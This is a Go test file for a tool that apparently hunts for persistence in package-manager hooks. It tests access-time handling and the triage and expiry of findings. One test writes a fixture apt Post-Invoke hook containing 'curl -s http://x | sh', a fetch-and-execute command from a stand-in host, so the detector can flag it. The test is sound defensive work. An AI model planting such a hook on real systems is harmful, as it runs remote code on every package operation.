package cli

import (
	"encoding/csv"
	"encoding/json"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/pkgpersist/pkgpersist/collector/hunt/hunttest"
	"github.com/pkgpersist/pkgpersist/collector/report"
	"github.com/pkgpersist/pkgpersist/queries"
)

// copyRoot copies a fixture root to a temporary directory the test may
// change.
func copyRoot(t *testing.T, src string) string {
	t.Helper()
	root := t.TempDir()
	if out, err := exec.Command("cp", "-a", src+"/.", root).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v: %s", err, out)
	}
	return root
}

// TestTouchedAccessTimesAreNotChanges: setting the access time of every
// file of a root between two hunts (touch -a: the status-change time
// moves too) changes nothing in diff. The same hunts with the query's
// volatile header removed do show changes: the times did change.
func TestTouchedAccessTimesAreNotChanges(t *testing.T) {
	if n := touchedDiff(t, ""); n != 0 {
		t.Fatalf("diff after touching access times: %d rows", n)
	}
	data, err := fs.ReadFile(queries.FS, "elastic-pm-files.sql")
	if err != nil {
		t.Fatal(err)
	}
	var kept []string
	for _, l := range strings.SplitAfter(string(data), "\n") {
		if !strings.HasPrefix(l, "-- volatile:") {
			kept = append(kept, l)
		}
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "elastic-pm-files.sql"), []byte(strings.Join(kept, "")), 0o644); err != nil {
		t.Fatal(err)
	}
	if n := touchedDiff(t, dir); n == 0 {
		t.Fatal("without volatile columns touching access times changed nothing: the test proves nothing")
	}
}

// touchedDiff hunts a copy of the planted root (with the query files of
// dir, "" for the built-in ones), sets every file's access time, hunts
// again and returns the number of rows diff lists for the second run.
func touchedDiff(t *testing.T, dir string) int {
	t.Helper()
	root := copyRoot(t, planted)
	db := filepath.Join(t.TempDir(), "p.db")
	hunt := []string{"hunt", "--db", db, "--root", root, "--format", "json"}
	if dir != "" {
		hunt = append(hunt, "--queries", dir)
	}
	code, _, errs := runCLI(hunt...)
	hunttest.WantClean(t, code, errs)
	// times are stored in seconds: from the next one on, the
	// status-change time that setting the access time sets differs from
	// the one the first hunt saw
	time.Sleep(time.Until(time.Now().Truncate(time.Second).Add(time.Second)))
	atime := time.Date(2001, 2, 3, 4, 5, 6, 0, time.UTC)
	touched := 0
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.Type()&fs.ModeSymlink != 0 {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		touched++
		return os.Chtimes(p, atime, info.ModTime())
	})
	if err != nil || touched < 20 {
		t.Fatalf("touched %d files: %v", touched, err)
	}
	code, _, errs = runCLI(hunt...)
	hunttest.WantClean(t, code, errs)
	code, out, errs := runCLI("diff", "--db", db, "--run", "2", "--format", "csv")
	if code != 0 {
		t.Fatalf("diff: exit %d: %s", code, errs)
	}
	r, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(r) == 0 {
		t.Fatalf("diff csv %q: %v", out, err)
	}
	return len(r) - 1 // the header
}

// TestTriageSticks: a triaged finding disappears from hunt's findings and
// from diff --fail-on-new, is listed marked with --all, comes back when
// its command changes, and comes back when the decision expires.
func TestTriageSticks(t *testing.T) {
	root := t.TempDir()
	hook := filepath.Join(root, "etc/apt/apt.conf.d/99local")
	for _, err := range []error{
		os.MkdirAll(filepath.Dir(hook), 0o755),
		os.MkdirAll(filepath.Join(root, "var/lib/dpkg"), 0o755),
		os.WriteFile(filepath.Join(root, "var/lib/dpkg/status"), nil, 0o644),
		os.WriteFile(hook, []byte(`DPkg::Post-Invoke { "/usr/local/bin/cache-clean"; };`+"\n"), 0o644),
	} {
		if err != nil {
			t.Fatal(err)
		}
	}
	qdir := t.TempDir()
	data, err := fs.ReadFile(queries.FS, "unowned-hooks.sql")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(qdir, "unowned-hooks.sql"), data, 0o644); err != nil {
		t.Fatal(err)
	}
	db := filepath.Join(t.TempDir(), "p.db")
	hunt := func(extra ...string) []report.Record {
		t.Helper()
		code, out, errs := runCLI(append([]string{"hunt", "--db", db, "--root", root, "--queries", qdir, "--format", "json"}, extra...)...)
		hunttest.WantClean(t, code, errs)
		var rows []report.Record
		if err := json.Unmarshal([]byte(out), &rows); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		return rows
	}
	failOnNew := func(run string) int {
		t.Helper()
		code, _, _ := runCLI("diff", "--db", db, "--run", run, "--query", "unowned-hooks", "--fail-on-new", "--format", "csv")
		return code
	}
	if f := hunt(); len(f) != 1 || f[0].Change != "new" || !strings.Contains(f[0].Row["command"], "cache-clean") {
		t.Fatalf("first hunt: %v", f)
	}
	if code := failOnNew("1"); code != 1 {
		t.Fatalf("diff --fail-on-new before triage: exit %d", code)
	}
	for _, bad := range [][]string{
		{"add", "unowned-hooks", "--match", "path=/etc/apt/apt.conf.d/99local"},                                    // no reason
		{"add", "unowned-hooks", "--match", "path=/nowhere", "--reason", "r"},                                      // no such row
		{"add", "unowned-hooks", "--match", "path=/etc/apt/apt.conf.d/99local", "--reason", "r", "--until", "-1h"}, // past
	} {
		args := append([]string{"triage", bad[0], "--db", db}, bad[2:]...)
		if code, _, errs := runCLI(append(args, bad[1])...); code != 2 {
			t.Errorf("triage %q: exit %d: %s", bad, code, errs)
		}
	}
	code, out, errs := runCLI("triage", "add", "--db", db, "--match", "path=/etc/apt/apt.conf.d/99local",
		"--reason", "our cache cleaner", "--who", "ann", "--until", "3s", "unowned-hooks")
	if code != 0 || !strings.Contains(out, "triage 1: unowned-hooks") {
		t.Fatalf("triage add: exit %d: %s%s", code, out, errs)
	}
	expires := time.Now().Add(3 * time.Second)
	if f := hunt(); len(f) != 0 {
		t.Fatalf("the triaged finding is still listed: %v", f)
	}
	if code := failOnNew("1"); code != 0 {
		t.Fatalf("diff --fail-on-new counts the triaged row: exit %d", code)
	}
	if f := hunt("--all"); len(f) != 1 || !strings.HasPrefix(f[0].Row["triaged"], "benign: our cache cleaner (ann, until ") {
		t.Fatalf("--all: %v", f)
	}
	// the command changes: a new row, no decision covers it
	if err := os.WriteFile(hook, []byte(`DPkg::Post-Invoke { "/usr/local/bin/cache-clean; curl -s http://x | sh"; };`+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if f := hunt(); len(f) != 1 || f[0].Change != "new" || !strings.Contains(f[0].Row["command"], "curl") {
		t.Fatalf("the changed command is not a new finding: %v", f)
	}
	if code := failOnNew("4"); code != 1 {
		t.Fatalf("diff --fail-on-new after the command changed: exit %d", code)
	}
	// back as it was: covered again until the decision expires
	if err := os.WriteFile(hook, []byte(`DPkg::Post-Invoke { "/usr/local/bin/cache-clean"; };`+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if f := hunt(); len(f) != 0 {
		t.Fatalf("the triaged row is listed again before the decision expired: %v", f)
	}
	time.Sleep(time.Until(expires))
	if f := hunt(); len(f) != 1 || f[0].Change != "present" {
		t.Fatalf("the decision expired, the finding is not back: %v", f)
	}
	if code := failOnNew("1"); code != 1 {
		t.Fatalf("diff --fail-on-new after the decision expired: exit %d", code)
	}
}
